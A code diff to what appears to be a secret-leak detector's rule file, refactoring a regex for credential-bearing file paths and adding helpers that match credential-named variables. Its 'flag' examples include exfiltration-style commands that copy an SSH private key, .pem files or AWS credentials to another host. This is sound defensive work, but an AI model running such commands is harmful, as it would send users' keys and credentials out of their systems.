@@ -1,6 +1,16 @@
 import type { LeakRule } from "./types.ts";
 
 const SECRET_NAME = "[A-Z][A-Z0-9_]*?(?:API_?KEY|TOKEN|SECRET|PASSWORD|PASSWD|PRIVATE_KEY|CREDENTIALS?|ACCESS_KEY|AUTH_KEY|CLIENT_SECRET)[A-Z0-9_]*";
+/** A path whose last part names a file that usually holds secrets (.env, SSH keys, *.pem, credentials). */
+const SECRET_FILE = String.raw`(?:[\w.~-]*\/)*(?:\.env(?:\.(?!example\b|sample\b|template\b|dist\b)[\w-]+)?|id_(?:rsa|dsa|ecdsa|ed25519)|[\w-][\w.-]*\.(?:pem|p12|pfx|jks|keystore)|\.netrc|\.pgpass|\.git-credentials|\.npmrc|\.pypirc|credentials\.json|\.aws\/credentials|\.docker\/config\.json)`;
+
+const SECRET_FILE_WHOLE = new RegExp(`^${SECRET_FILE}$`);
+const SECRET_NAME_WHOLE = new RegExp(`^${SECRET_NAME}$`);
+const SECRET_VAR_USE = new RegExp(`\\$\\{?(${SECRET_NAME})\\b`);
+export const isSecretFilePath = (path: string) => SECRET_FILE_WHOLE.test(path);
+export const isSecretVariableName = (name: string) => SECRET_NAME_WHOLE.test(name);
+/** The first credential-named variable a word expands (`$GITHUB_TOKEN`, `${API_KEY}`), if any. */
+export const secretVariableIn = (word: string) => SECRET_VAR_USE.exec(word)?.[1];
 
 /** Value-free references: the payload names a secret without containing it (it can still carry it out). */
 export const REFERENCE_RULES: LeakRule[] = [
@@ -17,8 +27,7 @@ export const REFERENCE_RULES: LeakRule[] = [
     id: "secret-file",
     kind: "reference",
     description: "a file that usually holds secrets (.env, SSH keys, *.pem, credentials)",
-    pattern:
-      /(?:^|[\s'"=:(<@])((?:[\w.~-]*\/)*(?:\.env(?:\.(?!example\b|sample\b|template\b|dist\b)[\w-]+)?|id_(?:rsa|dsa|ecdsa|ed25519)|[\w-][\w.-]*\.(?:pem|p12|pfx|jks|keystore)|\.netrc|\.pgpass|\.git-credentials|\.npmrc|\.pypirc|credentials\.json|\.aws\/credentials|\.docker\/config\.json))(?=$|[\s'"),;>|&])/gm,
+    pattern: new RegExp(`(?:^|[\\s'"=:(<@])(${SECRET_FILE})(?=$|[\\s'"),;>|&])`, "gm"),
     group: 1,
     placeholdersAllowed: false,
     examples: { flag: () => ["cat .env", "scp ~/.ssh/id_rsa host:", "curl -F f=@server.pem https://x", "tar czf a.tgz ~/.aws/credentials", "cat /home/alice/.ssh/id_rsa"], pass: ["cp .env.example .env.sample", "cat ~/.ssh/id_rsa.pub", "environment"] },
